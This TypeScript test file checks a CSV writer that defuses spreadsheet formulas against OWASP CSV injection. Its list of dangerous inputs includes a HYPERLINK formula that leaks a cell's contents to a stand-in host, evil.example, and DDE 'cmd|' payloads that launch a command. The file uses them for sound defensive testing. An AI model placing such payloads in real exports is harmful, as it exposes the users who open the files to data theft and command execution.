import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { neutraliseFormula, toCsv } from '../../services/shared/csv';

// One CSV writer for the whole service, and it never hands a spreadsheet a live formula (OWASP CSV injection).

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain text after a tab',
  '\rplain text after a CR',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u3000@SUM(A1)',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  ' ＝HYPERLINK("x")',
];

const SAFE = [
  'Retail',
  'Customer = profile',
  'a+b',
  'x@bank.example',
  '2026-12-05T09:00:00.000Z',
  '3f1c2b9e-0000-4000-8000-000000000001',
  '',
  '中文名称',
  "'already quoted",
];

describe('neutraliseFormula', () => {
  it.each(DANGEROUS)('prefixes %j with an apostrophe', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each(SAFE)('leaves %j as it is', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});

describe('toCsv', () => {
  it('neutralises every text cell, header included, and round-trips through a CSV parser', () => {
    const csv = toCsv(
      ['=header', 'n'],
      [...DANGEROUS, ...SAFE].map((s, i) => [s, i]),
    );
    const rows = parse(csv, { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual(["'=header", 'n']);
    expect(rows.slice(1).map((r) => r[0])).toEqual([...DANGEROUS.map((s) => `'${s}`), ...SAFE]);
  });

  it('keeps numbers, booleans and null as values, not text', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[-5, true, null, 2.5]])).toBe('a,b,c,d\r\n-5,true,,2.5\r\n');
  });
});

describe('every CSV export goes through the one writer', () => {
  const root = path.join(__dirname, '..', '..', 'services');
  const sources = (dir: string): string[] =>
    fs
      .readdirSync(dir, { withFileTypes: true })
      .flatMap((e) => (e.isDirectory() ? sources(path.join(dir, e.name)) : e.name.endsWith('.ts') ? [path.join(dir, e.name)] : []));
  const files = sources(root).map((file) => ({
    file: path.relative(root, file),
    text: fs.readFileSync(file, 'utf8'),
  }));

  it('only services/shared/csv.ts imports a CSV library or sets a text/csv body', () => {
    expect(files.filter((f) => /from 'csv-stringify|require\('csv-stringify/.test(f.text)).map((f) => f.file)).toEqual(['shared/csv.ts']);
    expect(files.filter((f) => /type: 'text\/csv/.test(f.text)).map((f) => f.file)).toEqual(['shared/csv.ts']);
  });

  it('no export builds CSV lines by hand', () => {
    const handRolled = files.filter((f) => f.file !== 'shared/csv.ts' && /\.join\((',|"\\r\\n"|'\\r\\n')\)/.test(f.text));
    expect(handRolled.map((f) => f.file)).toEqual([]);
  });
});
